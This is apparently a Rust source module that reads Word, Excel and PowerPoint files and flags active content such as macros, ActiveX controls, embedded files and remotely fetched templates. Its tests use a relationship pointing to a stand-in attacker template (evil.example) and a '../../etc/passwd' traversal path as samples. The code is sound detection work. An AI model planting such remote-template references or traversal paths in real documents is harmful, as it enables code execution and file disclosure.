//! What Word, Excel and PowerPoint files of the current formats share: how
//! their parts refer to each other, and what active content they may carry.

use std::borrow::Cow;
use std::collections::HashMap;

use quick_xml::Reader;
use quick_xml::events::Event;

use super::aside::Asides;
use super::parts::Parts;
use super::{FindingKind, ReadError, xml};

/// Parts with references looked through for those that lead outside.
const MOST_PARTS: usize = 2000;

/// A reference from one part to another, or to something outside.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Reference {
    /// What the target is to the part: `slide`, `notesSlide`, `hyperlink`, …
    pub(super) kind: String,
    /// The name of the part, or an address outside.
    pub(super) target: String,
    /// The target is outside the document.
    pub(super) external: bool,
}

/// The references of a part, by id; none when it has none.
///
/// # Errors
/// Fails when they cannot be unpacked.
pub(super) fn references(
    parts: &mut Parts,
    part: &str,
) -> Result<HashMap<String, Reference>, ReadError> {
    let (folder, file) = part.rsplit_once('/').unwrap_or(("", part));
    let name = format!("{folder}/_rels/{file}.rels");
    let xml = parts.text(name.trim_start_matches('/'))?.unwrap_or_default();
    Ok(parse(&xml, folder))
}

fn parse(xml: &str, folder: &str) -> HashMap<String, Reference> {
    let mut reader = Reader::from_str(xml);
    let mut references = HashMap::new();
    loop {
        match reader.read_event() {
            Ok(Event::Start(element) | Event::Empty(element))
                if element.local_name().into_inner() == "Relationship" =>
            {
                let value = |name| xml::attribute(&element, name).unwrap_or_default();
                let kind = value("Type").rsplit('/').next().unwrap_or_default().to_owned();
                let external = value("TargetMode") == "External";
                let target = value("Target");
                let target = if external { target } else { resolve(folder, &target) };
                references.insert(value("Id"), Reference { kind, target, external });
            }
            Ok(Event::Eof) | Err(_) => return references,
            Ok(_) => {}
        }
    }
}

/// The name of the part a target means, seen from a folder.
fn resolve(folder: &str, target: &str) -> String {
    let start = if target.starts_with('/') { "" } else { folder };
    let mut steps: Vec<&str> = start.split('/').filter(|step| !step.is_empty()).collect();
    for step in target.split('/') {
        match step {
            "" | "." => {}
            ".." => drop(steps.pop()),
            step => steps.push(step),
        }
    }
    steps.join("/")
}

/// Notes macros, controls, embedded files and whatever is fetched from outside.
///
/// # Errors
/// Fails when references cannot be unpacked.
pub(super) fn active_content(parts: &mut Parts, asides: &mut Asides) -> Result<(), ReadError> {
    for name in parts.names() {
        let file = name.rsplit('/').next().unwrap_or_default();
        if file == "vbaProject.bin" {
            asides.note(FindingKind::Macro, "a Visual Basic project");
        } else if name.contains("/macrosheets/") {
            asides.note(FindingKind::Macro, "a sheet of Excel 4 macros");
        } else if name.contains("/activeX/") && name.ends_with(".xml") {
            asides.note(FindingKind::Script, format!("an ActiveX control ({file})"));
        } else if name.contains("/embeddings/") && !file.is_empty() {
            asides.note(FindingKind::EmbeddedFile, file);
        } else if name.ends_with("xl/connections.xml") {
            asides.note(FindingKind::Action, "a connection to data outside");
        }
    }
    let mut lists: Vec<String> =
        parts.names().filter(|name| name.ends_with(".rels")).map(Cow::into_owned).collect();
    lists.sort_unstable();
    for name in lists.iter().take(MOST_PARTS) {
        let references = match parts.text(name) {
            Ok(xml) => parse(&xml.unwrap_or_default(), ""),
            Err(ReadError::Damaged(_)) => continue,
            Err(error) => return Err(error),
        };
        let mut outside: Vec<Reference> =
            references.into_values().filter(|reference| reference.external).collect();
        outside.sort_by(|a, b| a.target.cmp(&b.target));
        for Reference { kind, target, .. } in outside {
            let what = match kind.as_str() {
                "attachedTemplate" => "a template fetched from",
                "oleObject" => "an object fetched from",
                "frame" | "subDocument" | "aFChunk" => "text fetched from",
                "externalLinkPath" | "xlExternalLinkPath/xlPathMissing" => "values fetched from",
                "image" => "a picture fetched from",
                // A link does nothing until somebody follows it.
                _ => continue,
            };
            asides.note(FindingKind::Action, format!("{what} {target}"));
        }
    }
    Ok(())
}

/// The paragraphs of every element of a name, such as `comment`; the whole
/// part when the name is empty. What breaks off is left out.
pub(super) fn paragraphs(xml: &str, within: &str) -> Vec<String> {
    let mut reader = Reader::from_str(xml);
    let mut lines = Vec::new();
    let mut line = String::new();
    let mut inside = usize::from(within.is_empty());
    let mut in_text = false;
    loop {
        match reader.read_event() {
            Ok(Event::Start(element)) => match element.local_name().into_inner() {
                "t" | "text" | "v" => in_text = true,
                name if name == within => inside += 1,
                _ => {}
            },
            Ok(Event::Empty(element)) => match element.local_name().into_inner() {
                "br" | "tab" if inside > 0 => line.push(' '),
                _ => {}
            },
            Ok(Event::End(element)) => {
                let name = element.local_name().into_inner();
                let ends = name == within;
                in_text &= !matches!(name, "t" | "text" | "v");
                if ends {
                    inside = inside.saturating_sub(1);
                }
                if (ends || matches!(name, "p" | "v")) && !line.trim().is_empty() {
                    lines.push(std::mem::take(&mut line).trim().to_owned());
                }
            }
            Ok(Event::Text(text)) if in_text && inside > 0 => line.push_str(&text.xml10_content()),
            Ok(Event::GeneralRef(reference)) if in_text && inside > 0 => {
                line.extend(xml::character(&reference));
            }
            Ok(Event::Eof) | Err(_) => break,
            Ok(_) => {}
        }
    }
    lines.extend((!line.trim().is_empty()).then(|| line.trim().to_owned()));
    lines
}

/// The words of a chart or diagram; none for other parts.
///
/// # Errors
/// Fails when it cannot be unpacked.
pub(super) fn drawn(parts: &mut Parts, reference: &Reference) -> Result<Vec<String>, ReadError> {
    match reference.kind.as_str() {
        "chart" => {
            let part = parts.text(&reference.target)?.unwrap_or_default();
            let mut lines = paragraphs(&part, "title");
            lines.extend(series(&part));
            Ok(lines)
        }
        "diagramData" => Ok(paragraphs(&parts.text(&reference.target)?.unwrap_or_default(), "")),
        _ => Ok(Vec::new()),
    }
}

/// Between the values of a series.
const VALUE: &str = " | ";

/// The series of a chart: a line for each, with its name and values.
fn series(chart: &str) -> Vec<String> {
    let mut reader = Reader::from_str(chart);
    let mut lines = Vec::new();
    let mut values: Vec<String> = Vec::new();
    let mut in_value = false;
    loop {
        match reader.read_event() {
            Ok(Event::Start(element)) => match element.local_name().into_inner() {
                "ser" => values.clear(),
                "v" => {
                    in_value = true;
                    values.push(String::new());
                }
                _ => {}
            },
            Ok(Event::End(element)) => match element.local_name().into_inner() {
                "ser" => lines.push(std::mem::take(&mut values).join(VALUE)),
                "v" => in_value = false,
                _ => {}
            },
            Ok(Event::Text(text)) if in_value => {
                if let Some(value) = values.last_mut() {
                    value.push_str(&text.xml10_content());
                }
            }
            Ok(Event::GeneralRef(reference)) if in_value => {
                if let Some(value) = values.last_mut() {
                    value.extend(xml::character(&reference));
                }
            }
            Ok(Event::Eof) | Err(_) => break,
            Ok(_) => {}
        }
    }
    lines.retain(|line| !line.is_empty());
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::documents::reading::Finding;
    use crate::documents::reading::parts::tests::pack;

    #[test]
    fn targets_are_found_from_the_folder_of_the_part() {
        assert_eq!(resolve("ppt/slides", "../notesSlides/n1.xml"), "ppt/notesSlides/n1.xml");
        assert_eq!(resolve("ppt", "/ppt/slides/s1.xml"), "ppt/slides/s1.xml");
        assert_eq!(resolve("", "../../etc/passwd"), "etc/passwd");
    }

    #[test]
    fn active_content_is_told() {
        let references = "<Relationships><Relationship Id='r1' TargetMode='External' \
            Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm'/>\
            <Relationship Id='r2' TargetMode='External' Type='http://x/hyperlink' \
            Target='http://court.example/'/></Relationships>";
        let bytes = pack(&[
            ("word/vbaProject.bin", "x"),
            ("word/embeddings/oleObject1.bin", "x"),
            ("word/_rels/settings.xml.rels", references),
        ]);
        let mut asides = Asides::default();
        active_content(&mut Parts::open(bytes).unwrap(), &mut asides).unwrap();
        let mut found: Vec<(FindingKind, String)> = asides
            .into_findings()
            .into_iter()
            .map(|Finding { kind, detail }| (kind, detail))
            .collect();
        found.sort();
        assert_eq!(
            found,
            [
                (FindingKind::Action, "a template fetched from http://evil.example/t.dotm".into()),
                (FindingKind::EmbeddedFile, "oleObject1.bin".into()),
                (FindingKind::Macro, "a Visual Basic project".into()),
            ]
        );
    }
}
